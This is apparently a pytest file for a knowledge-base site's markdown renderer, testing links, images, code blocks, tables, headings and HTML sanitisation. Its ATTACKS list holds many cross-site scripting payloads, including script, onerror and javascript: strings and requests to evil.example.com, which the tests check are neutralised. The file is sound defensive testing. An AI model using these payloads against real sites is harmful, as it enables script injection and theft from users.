"""Markdown of records: what becomes of links, pictures, code, tables, headings, and of HTML that means harm."""

from __future__ import annotations

import re

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from selectolax.lexbor import LexborHTMLParser

import generator.markdown
from generator.markdown import Target, Words, plain_text, to_html, unique_id
from generator.urls import ROOT
from kb.fields import Fields
from kb.source import Value

TARGETS = {
    "KB10001": Target(f"{ROOT}kb/KB10001/", '<span class="wp-id">KB10001</span> Restart &amp; wait'),
    "KB10001#solution": Target(f"{ROOT}kb/KB10001/#solution", "KB10001"), "KB10009": Target(""),
    "box.png": Target(f"{ROOT}attachments/box.1a.png", "", 30, 20),
    "box.log": Target(f"{ROOT}attachments/box.2b.log", download=True),
    "gone.png": Target(""), "/kb/": Target(f"{ROOT}kb/"),
}


def resolve(address: str) -> Target | None:
    """As an edition does: an address that leads out stays as it is, what is not there is not shown."""
    return TARGETS.get(address) or (None if re.match(r"[a-z]+:|//|#", address, re.IGNORECASE) else Target(""))


def html(markdown: str, used_ids: set[str] | None = None) -> str:
    return to_html(markdown, resolve, Words(table="Table"), set() if used_ids is None else used_ids)


def parsed(markdown: str) -> LexborHTMLParser:
    return LexborHTMLParser(f"<body>{html(markdown)}</body>")


# -- links -------------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(("markdown", "expected"), [
    ("[[KB10001]]", f'<a href="{ROOT}kb/KB10001/"><span class="wp-id">KB10001</span> Restart &amp; wait</a>'),
    ("[[KB10001|how to restart]]", f'<a href="{ROOT}kb/KB10001/">how to restart</a>'),
    ("[how to restart](KB10001)", f'<a href="{ROOT}kb/KB10001/">how to restart</a>'),
    ("[*how* to `restart`](KB10001)", f'<a href="{ROOT}kb/KB10001/"><em>how</em> to <code>restart</code></a>'),
    ("[](KB10001)", f'<a href="{ROOT}kb/KB10001/"><span class="wp-id">KB10001</span> Restart &amp; wait</a>'),
    ("[step](KB10001#solution)", f'<a href="{ROOT}kb/KB10001/#solution">step</a>'),
    ("[all](/kb/)", f'<a href="{ROOT}kb/">all</a>'),
    ("[log](box.log)", f'<a href="{ROOT}attachments/box.2b.log" download="">log</a>'),
    ("[x][a]\n\n[a]: KB10001", f'<a href="{ROOT}kb/KB10001/">x</a>'),
    ("<https://www.example.com/?b=1&c=2>",
     '<a href="https://www.example.com/?b=1&amp;c=2">https://www.example.com/?b=1&amp;c=2</a>'),
    ("see https://www.example.com/a.", 'see <a href="https://www.example.com/a">https://www.example.com/a</a>.'),
    ("[mail](mailto:a@example.com)", '<a href="mailto:a@example.com">mail</a>'),
    ("[call](tel:+15550142)", '<a href="tel:+15550142">call</a>'),
    ("[up](#top)", '<a href="#top">up</a>'),
])
def test_links(markdown: str, expected: str) -> None:
    assert html(markdown).replace(' rel="noopener noreferrer"', "") == f"<p>{expected}</p>\n"


@pytest.mark.parametrize(("markdown", "expected"), [
    ("a [[KB10009]] b", "a  b"), ("a [[KB10009|secret plan]] b", "a secret plan b"), ("a [plan](KB10009) b", "a plan b"),
    ("a [*plan*](KB10009 \"KB10009 title\") b", "a <em>plan</em> b"),
    ("a ![alt](gone.png) b", 'a <span class="wp-missing">alt</span> b'),
    ("a <a href='KB10009'>plan</a> b", "a plan b"),
])
def test_what_is_not_shown_vanishes(markdown: str, expected: str) -> None:
    assert html(markdown) == f"<p>{expected}</p>\n"


def test_links_in_code_stay_text() -> None:
    assert html("`[[KB10001]]`") == "<p><code>[[KB10001]]</code></p>\n"
    assert "[x](KB10001)" in html("```\n[x](KB10001)\n```")


# -- pictures ----------------------------------------------------------------------------------------------------------


def test_a_picture_of_the_site_has_its_size_and_loads_late() -> None:
    assert html('![A "box"](box.png "Its <front>")') == (
        f'<p><img src="{ROOT}attachments/box.1a.png" alt="A &quot;box&quot;" title="Its &lt;front&gt;" width="30" height="20" '
        'loading="lazy" decoding="async"></p>\n')


@pytest.mark.parametrize("address", ["https://www.example.com/x.png", "http://www.example.com/x.png"])
def test_a_picture_from_elsewhere_becomes_a_link(address: str) -> None:
    found = parsed(f"![Front](<{address}>)")
    assert not found.css("img")
    assert [(node.text(), node.attributes["href"]) for node in found.css("a")] == [("Front", address)]


@pytest.mark.parametrize("markdown", [
    "<img src=https://www.example.com/x.png>", "<img src=//www.example.com/x.png onerror=alert(1)>",
    "![x](data:image/png;base64,AAAA)", "![x](javascript:alert(1))", "<img src='data:image/svg+xml,<svg onload=alert(1)>'>",
    "<img srcset='https://www.example.com/x.png 2x' src=box.png>", "<picture><source srcset=//www.example.com/x.png></picture>",
])
def test_no_picture_is_loaded_from_elsewhere(markdown: str) -> None:
    for node in parsed(markdown).css("img, source, picture"):
        assert (node.attributes.get("src") or "").startswith(ROOT)
        assert "srcset" not in node.attributes


# -- code, tables, lists -----------------------------------------------------------------------------------------------


def test_known_languages_are_highlighted_and_nothing_is_lost() -> None:
    code = 'import os  # <b>&amp;</b>\nprint("ä" if 1 < 2 else \'\\n\')\n'
    found = parsed(f"```python\n{code}```")
    assert found.css_first("div.highlight pre code").text() == code
    assert found.css("span.kn, span.c1, span.s2")


@pytest.mark.parametrize("language", ["", "text", "nosuchlanguage", "<script>", "text title=x", "../../etc"])
def test_other_code_is_shown_as_it_is(language: str) -> None:
    found = parsed(f"```{language}\nrpd[1]: <a> & </code></pre><script>x</script>\n```")
    assert found.css_first("div.highlight pre code").text() == "rpd[1]: <a> & </code></pre><script>x</script>\n"
    assert not found.css("pre span, script")


def test_code_can_be_scrolled_with_the_keyboard() -> None:
    assert len(parsed("    indented\n").css("pre [tabindex='0'], pre[tabindex='0']")) == 1


def test_large_code_is_not_highlighted() -> None:
    found = parsed("```python\n" + "x = 1\n" * 20_000 + "```")
    assert not found.css("pre span")
    assert found.css_first("code").text().count("x = 1") == 20_000


def test_tables_align_and_scroll() -> None:
    found = parsed("| a | b | c | d |\n| :-- | :-: | --: | --- |\n| 1 | `|` | **3** | 4 |\n")
    assert [node.attributes.get("class") for node in found.css("th")] == ["wp-left", "wp-center", "wp-right", None]
    assert [node.attributes.get("class") for node in found.css("td")][:3] == ["wp-left", "wp-center", "wp-right"]
    box = found.css_first("div.wp-scroll")
    assert (box.attributes["tabindex"], box.attributes["role"], box.attributes["aria-label"]) == ("0", "group", "Table")
    assert box.css("table td strong")
    assert not found.css("[align], [style]")


@pytest.mark.parametrize(("markdown", "expected"), [
    ("- [x] done", "☑ done"), ("- [ ] open", "☐ open"), ("1. [x] first", "☑ first"),
])
def test_task_lists_keep_their_state(markdown: str, expected: str) -> None:
    found = parsed(markdown)
    assert found.css_first("li").text() == expected
    assert not found.css("input")


def test_footnotes_strikethrough_and_definitions() -> None:
    found = parsed("~~old~~ text[^1]\n\n[^1]: A note.\n\nTerm\n\n: Meaning\n")
    assert found.css_first("del").text() == "old"
    assert "A note." in found.body.text()
    assert (found.css_first("dt").text(), found.css_first("dd").text().strip()) == ("Term", "Meaning")


# -- headings ----------------------------------------------------------------------------------------------------------


def test_headings_begin_at_the_third_level_and_have_unique_ids() -> None:
    used = {"affected"}
    found = LexborHTMLParser(html("# One\n\n## Two\n\n### Three\n\n#### Four\n\n### Three\n\n### Affected\n\n### ???\n", used))
    assert [(node.tag, node.attributes["id"]) for node in found.css("h1, h2, h3, h4, h5, h6")] == [
        ("h3", "one"), ("h3", "two"), ("h3", "three"), ("h4", "four"), ("h3", "three-2"), ("h3", "affected-2"), ("h3", "x")]
    assert "three-2" in used


def test_heading_ids_are_words_in_any_script() -> None:
    assert 'id="перезапуск-rpd"' in html("### Перезапуск `rpd`!")


def test_heading_ids_stay_short_and_unique() -> None:
    used: set[str] = set()
    names = [unique_id("Word " * 40, used) for _ in range(3)]
    assert len(set(names)) == 3
    assert all(len(name) <= 64 for name in names)


def test_ids_cannot_be_forged() -> None:
    found = parsed("<h3 id='__config'>x</h3><h4 title='>' id=config>x</h4><p id=\"content\">y</p><a name=z id=w>z</a>")
    assert not found.css("#__config, #config, #content, #w, a[name]")


@pytest.mark.parametrize("reference", [f"&#{ord(ROOT)};", f"&#x{ord(ROOT):x};", f"&#X00{ord(ROOT):X};", f"&#00{ord(ROOT)};"])
def test_the_way_to_the_root_cannot_be_forged(reference: str) -> None:
    for plain in ("{0}x", "[x]({0}kb/)", "`a` **{0}**"):
        assert ROOT not in html(plain.format(reference))
    raw = html("<b title={0}x>{0}</b> <h3 id='{0}x'>{0}</h3><a href='{0}kb/'>x</a>".format(reference.rstrip(";")))
    assert ROOT not in raw and "id=" not in raw and "href" not in raw
    assert f"&amp;#{ord(ROOT)};" in html(f"`&#{ord(ROOT)};` &#8364;"), "code is shown as it is"


def test_plain_text() -> None:
    assert plain_text("<p>a &lt;b&gt;<br>c\n <em>d</em></p>") == "a <b> c d"


# -- harm --------------------------------------------------------------------------------------------------------------

ATTACKS = [
    "<script>alert(1)</script>", "<ScRiPt src=//evil.example.com/x.js></sCrIpT>", "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>", "<iframe src=javascript:alert(1)>", "<object data=x>",
    "<embed src=x>", "<base href=//evil.example.com/>", "<link rel=stylesheet href=x>",
    "<meta http-equiv=refresh content='0;url=//evil.example.com'>", "<style>*{background:url(//evil.example.com)}</style>",
    "<form action=//evil.example.com><input name=q><button>x</button></form>", "<a href='javascript:alert(1)'>x</a>",
    "[x](javascript:alert(1))", "[x](JaVaScRiPt:alert(1))", "[x](&#106;avascript:alert(1))", "[x](java\tscript:alert(1))",
    "[x](vbscript:x)", "[x](data:text/html,<script>alert(1)</script>)", "<javascript:alert(1)>",
    "<a href=' javascript:alert(1)'>x</a>", "<p style='position:fixed;inset:0'>x</p>",
    "<div class='md-header wp-banner'>x</div>", "<a onclick=alert(1) href=#>x</a>",
    "<details open ontoggle=alert(1)>x</details>", "<input autofocus onfocus=alert(1)>", "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>", "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>", '![x](x"onerror=alert(1))',
    '[a](https://www.example.com/"onmouseover=alert(1))', "<x:script>alert(1)</x:script>",
    '```"><script>alert(1)</script>\nx\n```', "| <script>alert(1)</script> |\n| --- |\n| x |",
    "[[KB10001|<script>alert(1)</script>]]", "[[KB10001|<img src=x onerror=alert(1)>]]", "# <script>alert(1)</script>",
    "[^1]: <script>x</script>\n\nx[^1]", "<div data-md-component=header data-wp-results>x</div>",
    '<span lang=\'" onload=x\'>x</span>', "<a href='//evil.example.com' target=_blank>x</a>",
    "<textarea></p><script>alert(1)</script>", "<!--wp:body--><!--/wp:body-->", "<plaintext><script>alert(1)</script>",
]
ALLOWED_TAGS = {
    "a", "abbr", "b", "blockquote", "body", "br", "caption", "cite", "code", "col", "colgroup", "dd", "del", "details",
    "dfn", "div", "dl", "dt", "em", "figcaption", "figure", "h3", "h4", "h5", "h6", "head", "hr", "html", "i", "img", "ins",
    "kbd", "li", "mark", "ol", "p", "pre", "q", "s", "samp", "small", "span", "strong", "sub", "summary", "sup", "table",
    "tbody", "td", "tfoot", "th", "thead", "tr", "u", "ul", "var",
}
ALLOWED_ATTRIBUTES = {
    "alt", "aria-label", "class", "colspan", "decoding", "download", "height", "href", "id", "lang", "loading", "open",
    "rel", "reversed", "role", "rowspan", "scope", "span", "src", "start", "tabindex", "title", "width",
}


def assert_harmless(found: LexborHTMLParser) -> None:
    for node in found.css("*"):
        assert node.tag in ALLOWED_TAGS, node.tag
        assert set(node.attributes) <= ALLOWED_ATTRIBUTES, node.html
        href = (node.attributes.get("href") or "").strip()
        assert not href or href.startswith(ROOT) or re.match(r"(https?|mailto|tel):|//|#", href, re.IGNORECASE), href
        for word in (node.attributes.get("class") or "").split():
            assert re.fullmatch(r"[a-z][a-z0-9]{0,2}|highlight|wp-(id|left|right|center|missing|scroll|table)", word), word
    assert "<!--" not in found.html


@pytest.mark.parametrize("markdown", ATTACKS)
def test_harmful_html_is_made_harmless(markdown: str) -> None:
    assert_harmless(parsed(markdown))
    assert_harmless(parsed(f"text {markdown} text\n\n> {markdown}\n\n- {markdown}\n"))


PIECES = st.sampled_from([
    "<", ">", "</", '"', "'", "`", "```", "[", "]", "(", ")", "[[", "]]", "|", "\n", "\n\n", " ", "&", "&lt;", "#", "- ",
    "script", "img", "a href=", "src=", "onerror=", "javascript:", "KB10001", "box.png", "style", "p", "div", "!", "<!--",
    "-->", "wp:body", "x", "=", "svg", "[^1]:", "[x] ", "table", "| --- |", "pre", "code", "\\", "*", "data:",
    "https://www.example.com/", "\xa0", "\u2028",
])


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow], derandomize=True)
@given(st.lists(PIECES, max_size=30).map("".join))
def test_no_text_makes_harmful_html(markdown: str) -> None:
    assert_harmless(parsed(markdown))


MARKUP = st.sampled_from([
    "*", "**", "***", "****", "_", "~~", "`", "``", "\n```\n", "\n```python\n", "\n```text\n", "\n    ", "- ", "1. ", "2) ", "> ",
    "> > > > ", "\n", "\n\n", "\n\n  ", " ", "\t", '"', "'", "&", "&lt;", "&nbsp;", "&#0;", "&#13;", "&#65279;", "\\", ">", "# ", "---",
    "\xa0", "\ufeff", "\r", "\0", "\x0b", "\f", "\x85", "\u2028", "[", "](KB10001)", "[ ] ", "| a |\n| - |\n", "x", "def x(): '1'", "¶",
])


@settings(max_examples=1_500, deadline=None, suppress_health_check=[HealthCheck.too_slow], derandomize=True)
@given(st.lists(MARKUP | st.text(max_size=3), max_size=40).map("".join))
def test_what_needs_no_cleaning_is_as_the_cleaner_leaves_it(markdown: str) -> None:
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(generator.markdown, "_is_plain", lambda _html: False)
        cleaned = html(markdown)
    assert html(markdown) == cleaned


@pytest.mark.parametrize("markdown", [
    "A fault.", "Two *words* in **bold** and `code`: \"quoted\" & 'so'.\n\n- one\n- two\n\n> ~~no~~", "```python\nx = 'a' > \"b\"\n```",
    "> " * 300 + "deep", "*" * 40 + "a" + "*" * 40, "- " * 50 + "x", "1. one\n2. two",
])
def test_plain_texts_are_not_cleaned(markdown: str) -> None:
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(generator.markdown, "_is_plain", lambda _html: False)
        cleaned = html(markdown)
        patch.undo()
        patch.delattr(generator.markdown, "_cleaner")
        assert html(markdown) == cleaned


@settings(max_examples=100, deadline=None, derandomize=True)
@given(st.text(max_size=200))
def test_any_text_is_rendered(text: str) -> None:
    assert isinstance(html(text), str)


@settings(max_examples=100, deadline=None, derandomize=True)
@given(st.text(alphabet=st.characters(categories=("L", "N", "P", "S", "Zs")), min_size=1, max_size=80))
def test_code_keeps_every_character(text: str) -> None:
    if "`" not in text:
        assert parsed(f"```python\n{text}\n```").css_first("code").text() == f"{text}\n"


def test_a_section_of_a_list_file_may_begin_with_indented_code() -> None:
    fields = Fields({"workaround": Value(1, "    restart web\n    wait\n")}, "reports/all.jsonl", 1, [])
    assert parsed(fields.block("workaround")).css_first("pre code").text() == "restart web\nwait\n"
